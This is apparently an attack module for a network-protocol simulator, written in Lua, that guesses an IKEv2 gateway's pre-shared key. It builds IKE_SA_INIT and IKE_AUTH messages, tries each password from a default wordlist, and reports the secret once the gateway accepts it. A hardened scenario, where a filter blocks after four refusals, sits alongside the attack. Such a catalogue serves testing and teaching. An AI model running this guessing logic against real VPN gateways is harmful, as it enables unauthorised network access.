-- Guessing a secret at the gateway itself: IKE_SA_INIT, IKE_AUTH with one guess, and again. It is slow, and everybody on the way can count.
attack = {
  id = "A07", name = "secret-guessing",
  about = "Calls a gateway again and again, each time with another guess of the shared secret",
  position = "off-path",
  needs = "the identity to guess for; to reach the gateway",
  source = "RFC 7296, 2.15 and 5; catalogue A07",
  shows = {
    vulnerable = "the secret is among the first hundred of every list: some tries, and the gateway takes the stranger in",
    hardened = "each guess costs a handshake, and a filter counts: after four refusals in a row nobody is let through",
  },
  scenarios = { vulnerable = "secret-guessing", hardened = "secret-guessing-filtered" },
}

-- Parameters: target, own, id; guesses = a list, separated by spaces
local p, guesses, at, me = nil, {}, 0, nil
local goal = "get in by guessing"
local transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } }

function on_start(params)
  p = params
  assert(p.target and p.own and p.id, "parameters target, own, id")
  local text, from = (params.guesses or "password letmein qwerty dragon monkey sunshine secret welcome") .. " ", 1
  while from <= #text do
    local space = text:find(" ", from)
    guesses[#guesses + 1], from = text:sub(from, space - 1), space + 1
  end
  timer.after("500ms", "call")
end

local function send(note, payload)
  inject{ src = p.own, src_port = 500, dst = p.target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end

function on_timer(label)
  if label == "call" or not me or me.at == tonumber(label) then
    at = at + 1
    if not guesses[at] then return end
    me = { at = at, pair = crypto.key_pair("x25519"), nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)) }
    me.request = ike.encode{ spi_i = me.spi, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0,
      payloads = { ike.sa{ number = 1, protocol = 1, spi = "", transforms = transforms }, ike.ke(me.pair), ike.nonce(me.nonce) } }
    send("IKE_SA_INIT, for guess " .. at, me.request)
    timer.after("400ms", tostring(at))   -- no answer: go on with the next
  end
end

on({ exchange = "IKE_SA_INIT", response = true, payload = "KE" }, function(_, message)
  if not me or message.spi_i ~= me.spi or me.keys then return end
  me.suite = ike.suite(find(message, "SA").proposals[1])
  local nr = find(message, "Ni/Nr").data
  me.keys = ike.keys(me.suite, { ni = me.nonce, nr = nr, shared = crypto.shared(me.pair, find(message, "KE").data), spi_i = me.spi, spi_r = message.spi_r })
  ring.ike(me.spi, me.suite, me.keys)
  local id = ike.id("i", 2, p.id)
  local octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = nr, sk_p = me.keys.sk_pi, id = id.body })
  send("IKE_AUTH with guess " .. me.at .. ": " .. guesses[me.at], ike.seal({ spi_i = me.spi, spi_r = message.spi_r, exchange = 35, initiator = true,
    message_id = 1, payloads = {
      id, ike.auth(2, ike.psk_auth(me.suite.prf, guesses[me.at], octets)),
      ike.sa{ number = 1, protocol = 3, spi = crypto.random(4), transforms = { { type = 1, id = 20, key_bits = 256 }, { type = 5, id = 0 } } },
      ike.ts("i", "10.1.0.0", "10.1.0.255"), ike.ts("r", "10.2.0.0", "10.2.0.255") } }, me.suite, me.keys))
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet)
  local inner = me and ring.open(packet)
  if not inner or done then return end
  if find(inner, "AUTH") then
    done = true
    learn("psk", "the shared secret is \"" .. guesses[me.at] .. "\"", "guess " .. me.at .. ", at the gateway itself", guesses[me.at])
    achieved(goal, true, "guess " .. me.at .. " was right: the gateway proves itself, and takes the stranger for " .. p.id)
  end
end)

function on_finish()
  if not done then achieved(goal, false, at .. " guesses, and none got in") end
end
